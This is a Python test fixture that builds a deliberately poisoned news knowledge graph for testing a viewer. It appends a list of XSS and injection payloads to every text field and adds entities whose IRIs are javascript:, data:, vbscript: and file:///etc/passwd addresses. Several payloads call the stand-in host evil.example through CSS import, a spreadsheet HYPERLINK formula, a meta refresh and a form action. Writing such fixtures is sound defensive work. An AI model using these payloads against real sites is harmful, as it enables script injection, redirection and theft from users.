"""A graph of an article that attacks who looks at it: what it says is read as always, and then every text ends in a payload."""

from __future__ import annotations

import json
import subprocess
import sys
from hashlib import sha256
from itertools import cycle
from pathlib import Path

import pyoxigraph as ox

from kg.ontology import KG, OWL, RDF, RDFS

PAYLOADS = (
    "<script>window.ran = 'script'</script>",
    "\"><img src=x onerror=\"window.ran = 'image'\">",
    "'><svg onload=window.ran='svg'>",
    "</script><script>window.ran = 'second'</script>",
    "javascript:window.ran='address'",
    "{{constructor.constructor('window.ran=6')()}}",
    "${window.ran = 'template'}",
    "\u2028window.ran = 'line'//",
    "\u202e\u2066evil\u2069 \u200fwindow.ran",
    "' onmouseover='window.ran=\"over\"' x='",
    "<iframe srcdoc=\"<script>parent.ran = 'frame'</script>\"></iframe>",
    "<a href=\"javascript:window.ran='link'\">click</a>",
    "<math><mtext></table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.ran='mutated'&gt;\">",
    "--></style></title></textarea></noscript><script>window.ran = 'closing'</script>",
    "<style>@import 'http://evil.example/x';</style>",
    "]]><script xmlns='http://www.w3.org/1999/xhtml'>window.ran = 'xml'</script>",
    "=HYPERLINK(\"http://evil.example/\",\"x\")",
    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input autofocus onfocus=window.ran=1>",
)
TEXTS = {RDFS + "label", "http://www.w3.org/2004/02/skos/core#altLabel", "http://purl.org/dc/terms/title",
         "http://purl.org/dc/terms/identifier", "http://www.w3.org/ns/oa#exact", "http://www.w3.org/ns/oa#prefix",
         "http://www.w3.org/ns/oa#suffix",
         *(KG + name for name in ("publisherName", "contentText", "cueText", "unit", "exact", "nameInArticle", "articleId",
                                  "languageModel", "softwareVersion"))}
ADDRESSES = ("javascript:window.ran='iri'", "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
             "vbscript:window.ran", "https://w3id.org/newskg/id/entity/person/x'onmouseover='window.ran=1", "file:///etc/passwd")
ARTICLE = {
    "id": PAYLOADS[0], "title": PAYLOADS[1], "publisher": PAYLOADS[2], "author": PAYLOADS[3], "url": PAYLOADS[4],
    "published": "2026-02-04",
    "text": f"Governor Tim Walz {PAYLOADS[1]} criticized ICE on Tuesday. \"Leave our {PAYLOADS[3]} state now,\" Walz said. "
            f"Mayor Jacob Frey said 700 officers would leave Minneapolis {PAYLOADS[2]}.\u2028"
            f"Attorney General Keith Ellison {PAYLOADS[12]} sued the Department of Homeland Security on Monday.",
}


def poisoned(folder: Path) -> Path:
    """Build the store in a folder."""
    (folder / "articles.jsonl").write_text(json.dumps(ARTICLE), "utf-8")
    store = folder / "poisoned.kg"
    command = [sys.executable, "-m", "kg.cli", "build", str(folder / "articles.jsonl"), "--store", str(store)]
    subprocess.run(command, check=True, capture_output=True)
    quads, payloads = ox.Store(str(store)), cycle(PAYLOADS)
    for quad in sorted(quads.quads_for_pattern(None, None, None), key=str):
        if quad.predicate.value in TEXTS and "/ontology" not in str(quad.graph_name):
            quads.remove(quad)
            value = ox.Literal(f"{quad.object.value} {next(payloads)}")
            quads.add(ox.Quad(quad.subject, quad.predicate, value, quad.graph_name))
    _add_addresses(quads)
    quads.flush()
    return store


def _add_addresses(quads: ox.Store) -> None:
    """Entities whose IRIs attack, said to be the same as one of the article's, and in a statement with it."""
    mentioned = ox.NamedNode(KG + "mentions")
    known, graph = min(((q.object, q.graph_name) for q in quads.quads_for_pattern(None, mentioned, None)), key=str)
    statement = next(quads.quads_for_pattern(None, ox.NamedNode(RDF + "subject"), None))
    for address in ADDRESSES:
        iri = ox.NamedNode(address)
        quads.add(ox.Quad(iri, ox.NamedNode(RDF + "type"), ox.NamedNode(KG + "Person"), graph))
        quads.add(ox.Quad(iri, ox.NamedNode(RDFS + "label"), ox.Literal(f"Person of {address}"), graph))
        quads.add(ox.Quad(known, ox.NamedNode(OWL + "sameAs"), iri, graph))
        copy = ox.NamedNode(f"https://w3id.org/newskg/id/statement/{sha256(address.encode()).hexdigest()[:16]}")
        for quad in list(quads.quads_for_pattern(statement.subject, None, None)):
            value = iri if quad.predicate.value == RDF + "object" else quad.object
            quads.add(ox.Quad(copy, quad.predicate, value, quad.graph_name))
